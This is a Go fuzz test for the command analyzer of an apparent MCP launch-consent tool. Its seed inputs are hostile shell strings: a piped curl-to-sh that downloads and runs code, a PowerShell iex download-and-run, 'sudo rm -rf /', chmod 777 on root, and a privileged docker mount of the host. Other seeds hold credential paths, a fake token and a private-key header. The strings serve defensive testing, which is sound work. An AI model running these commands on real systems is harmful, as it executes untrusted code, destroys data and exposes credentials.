package launch_test

import (
	"strings"
	"testing"

	"github.com/airlock-mcp/airlock/consent/launch"
)

func FuzzAnalyze(f *testing.F) {
	for _, s := range []string{
		"curl -fsSL https://x.sh | sh",
		`eval "$(curl -fsSL https://x)"; bash <(wget -O- x) && sudo rm -rf / > /dev/sda 2>&1`,
		`sh -c 'bash -c "su -c \"chmod -R 777 /\""'`,
		"iex (iwr https://x/y.ps1); irm x | iex; (New-Object Net.WebClient).DownloadString('http://x') | iex",
		"docker run --privileged -v /:/host --volume=/var/run/docker.sock:/s --mount type=bind,src=/,dst=/h img",
		"npx -y @scope/pkg@latest --token ghp_0123456789abcdefghijABCDEFGHIJ012345 https://u:p@h",
		"$(((`((\"'\\", "\\", "'", `"`, "$(", "<(", "a >", "2>", "&>", "|", "((((((((((((((((((((x",
		"~/.ssh:/root/.ssh C:\\Users\\x\\.aws http://10.0.0.1 -----BEGIN RSA PRIVATE KEY-----",
	} {
		f.Add(s, "npx", s)
	}
	f.Fuzz(func(t *testing.T, script, arg, env string) {
		cmds := []launch.Command{
			{Argv: []string{"sh", "-c", script}, Env: map[string]string{"API_TOKEN": env, "PRE_COMMAND": env}},
			{Argv: []string{arg, script, env}, Dir: env, Executable: arg},
			{Argv: append(strings.Fields(script), arg), Env: map[string]string{arg: script}},
			{Argv: []string{"cmd", "/c", script}},
			{Argv: []string{"powershell", "-Command", script}},
			{Argv: []string{"docker", "run", script, arg, env}},
		}
		for _, c := range cmds {
			a := launch.Analyze(c)
			checkSpans(t, c, a)
			if a.Fingerprint != launch.Fingerprint(c) {
				t.Fatalf("fingerprint not stable for %q", c.Argv)
			}
			launch.Diff(c, cmds[0])
		}
	})
}
